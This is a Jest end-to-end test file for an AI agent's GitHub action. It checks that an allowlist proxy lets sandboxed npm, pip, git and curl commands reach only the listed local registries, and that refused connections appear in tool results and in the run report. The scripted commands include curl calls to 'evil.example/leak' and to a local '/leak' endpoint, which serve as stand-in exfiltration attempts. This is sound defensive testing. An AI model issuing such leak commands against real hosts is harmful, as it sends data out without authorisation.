import { afterEach, describe, expect, it } from '@jest/globals'
import { createServer } from 'node:http'
import { type Listening, listen } from '../../__fixtures__/loopback.js'
import {
  type NpmRegistry,
  startNpmRegistry
} from '../../__fixtures__/npm-registry.js'
import {
  aliceFiles,
  e2eSuite,
  finalComment
} from '../../__fixtures__/e2e-suite.js'
import { issueCommentEvent } from '../../__fixtures__/e2e-harness.js'
import { bash, EDIT, READ } from '../../__fixtures__/scripts.js'
import { startGitHttpServer } from '../../__fixtures__/git-http-server.js'
import { startPipIndex } from '../../__fixtures__/pip-index.js'
import { gitTestEnv } from '../../__fixtures__/git-env.js'
import { execFileSync } from 'node:child_process'
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { ScriptStep } from '../../__fixtures__/scripted-model.js'

/*
 * bash-allowed-hosts through the bundle (docs/security.md item 16a), in
 * each CI configuration (root with bubblewrap; the `runner` user with sudo
 * and a broken bubblewrap: E2E_RUN_AS, E2E_BROKEN_BWRAP): the model's
 * commands reach an allowed registry through the action's proxy and
 * nothing else, each refused connection is named in the tool result, and
 * the report counts them. The loopback registry is allowed the documented
 * way, by address; `no_proxy` is cleared in the commands, as the proxy
 * variables leave the sandbox's own 127.0.0.1 local.
 */

const start = e2eSuite()
const servers: Listening[] = []
afterEach(async () => {
  for (const server of servers.splice(0)) await server.close()
})

/** The text of every tool result the model was sent. */
function toolResults(requests: unknown[]): string {
  return requests
    .flatMap(
      (request) =>
        (request as { messages?: { role: string; content: unknown }[] })
          .messages ?? []
    )
    .filter((message) => message.role === 'tool')
    .map((message) => String(message.content))
    .join('\n---\n')
}

describe('bash-allowed-hosts', () => {
  it('lets npm and curl reach only the listed registry, names what it refused, and the report counts it', async () => {
    const registry: NpmRegistry = await startNpmRegistry(
      'egress-e2e',
      '1.0.0',
      {
        'index.js': 'module.exports = "egress-e2e installed"\n'
      }
    )
    servers.push(registry)
    const refusedRequests: string[] = []
    const other = await listen(
      createServer((req, res) => {
        refusedRequests.push(`${req.method} ${req.url}`)
        res.end('reached\n')
      })
    )
    servers.push(other)
    const local = 'no_proxy= NO_PROXY='
    const script: ScriptStep[] = [
      READ,
      bash(
        [
          `${local} curl -sS ${registry.origin}/egress-e2e | head -c 200; echo`,
          `${local} npm_config_registry=${registry.origin}/ npm install --no-audit --no-fund --no-update-notifier --no-save egress-e2e >/dev/null 2>&1; echo "npm exit $?"`,
          `node -e 'console.log(require("egress-e2e"))'`,
          `${local} curl -sS http://127.0.0.1:${other.port}/leak; echo`,
          `curl -sS https://evil.example/leak; echo "curl exit $?"`
        ].join('\n')
      ),
      EDIT,
      { text: 'Title: Fix the month\n\nFixed the month.' }
    ]
    const env = aliceFiles(await start(script))
    const result = await env.run(issueCommentEvent('/agent fix the month'), {
      'bash-allowed-hosts': `127.0.0.1:${registry.port}`,
      // Ignored: the allowlist is the only way out.
      'bash-network': 'true'
    })
    const results = toolResults(env.model.requests)
    expect(results).toContain('"dist-tags"')
    expect(results).toContain('npm exit 0')
    expect(results).toContain('egress-e2e installed')
    expect(registry.requests).toContain(
      'GET /egress-e2e/-/egress-e2e-1.0.0.tgz'
    )
    expect(results).toContain(
      `[proxy] refused GET 127.0.0.1:${other.port}: not in bash-allowed-hosts`
    )
    expect(results).toContain(
      '[proxy] refused CONNECT evil.example:443: not in bash-allowed-hosts'
    )
    expect(results).toMatch(/curl exit [1-9]/)
    expect(refusedRequests).toEqual([])
    // The model was told what it may reach.
    expect(JSON.stringify(env.model.requests[0])).toContain(
      `to these hosts: 127.0.0.1:${registry.port}`
    )
    expect(result.outputs.conclusion).toBe('changed')
    for (const report of [finalComment(env), result.summary]) {
      expect(report).toContain('**Refused during the run** (2 refusals)')
      expect(report).toContain(
        '- connection `CONNECT evil.example:443`: not in bash-allowed-hosts'
      )
    }
  }, 120_000)

  it('lets pip install and git clone from the listed hosts only', async () => {
    const index = await startPipIndex({
      name: 'egress-pip-e2e',
      version: '1.0.0',
      module: 'egress_pip_e2e',
      source: 'WORDS = "egress-pip-e2e imported"\n'
    })
    servers.push(index)
    const dir = await mkdtemp(join(tmpdir(), 'allowed-hosts-git-'))
    const env = gitTestEnv(dir)
    const git = (cwd: string, ...args: string[]) =>
      execFileSync('git', args, { cwd, env, stdio: 'pipe' })
    await mkdir(join(dir, 'seed'))
    await writeFile(join(dir, 'seed', 'README.md'), 'egress git e2e\n')
    git(join(dir, 'seed'), 'init', '-q', '-b', 'main')
    git(join(dir, 'seed'), 'add', '.')
    git(join(dir, 'seed'), 'commit', '-q', '-m', 'seed')
    git(dir, 'clone', '-q', '--bare', 'seed', join(dir, 'repos', 'o', 'r.git'))
    const gitServer = await startGitHttpServer({
      root: join(dir, 'repos'),
      token: 'e2e-token'
    })
    const reached: string[] = []
    const other = await listen(
      createServer((req, res) => {
        reached.push(`${req.method} ${req.url}`)
        res.end('reached\n')
      })
    )
    servers.push(other, {
      ...other,
      close: async () => {
        await gitServer.close()
        await rm(dir, { recursive: true, force: true })
      }
    })
    const gitPort = Number(gitServer.url.split(':').pop())
    const local = 'no_proxy= NO_PROXY='
    const pip = `/usr/bin/python3 -m pip --no-cache-dir --disable-pip-version-check`
    const script: ScriptStep[] = [
      READ,
      bash(
        [
          `${local} ${pip} install --target /tmp/pylib --trusted-host 127.0.0.1 --index-url ${index.origin}/simple/ egress-pip-e2e >/dev/null 2>&1; echo "pip exit $?"`,
          `PYTHONPATH=/tmp/pylib /usr/bin/python3 -c 'import egress_pip_e2e; print(egress_pip_e2e.WORDS)'`,
          `${local} git clone -q http://x-access-token:e2e-token@127.0.0.1:${gitPort}/o/r.git /tmp/cloned 2>&1; cat /tmp/cloned/README.md`,
          `${local} git ls-remote http://127.0.0.1:${other.port}/o/r.git 2>&1; echo "git exit $?"`,
          `${local} ${pip} download --retries 0 -d /tmp/dl --trusted-host 127.0.0.1 --index-url http://127.0.0.1:${other.port}/simple/ egress-pip-e2e >/dev/null 2>&1; echo "refused pip exit $?"`
        ].join('\n')
      ),
      EDIT,
      { text: 'Title: Fix the month\n\nFixed the month.' }
    ]
    const run = aliceFiles(await start(script))
    await run.run(issueCommentEvent('/agent fix the month'), {
      'bash-allowed-hosts': `127.0.0.1:${index.port}, 127.0.0.1:${gitPort}`
    })
    const results = toolResults(run.model.requests)
    expect(results).toContain('pip exit 0')
    expect(results).toContain('egress-pip-e2e imported')
    expect(index.requests).toContain(`GET /packages/${index.wheel}`)
    expect(results).toContain('egress git e2e')
    expect(results).toMatch(/git exit [1-9]/)
    expect(results).toMatch(/refused pip exit [1-9]/)
    expect(results).toContain(
      `[proxy] refused GET 127.0.0.1:${other.port}: not in bash-allowed-hosts`
    )
    expect(reached).toEqual([])
  }, 120_000)
})
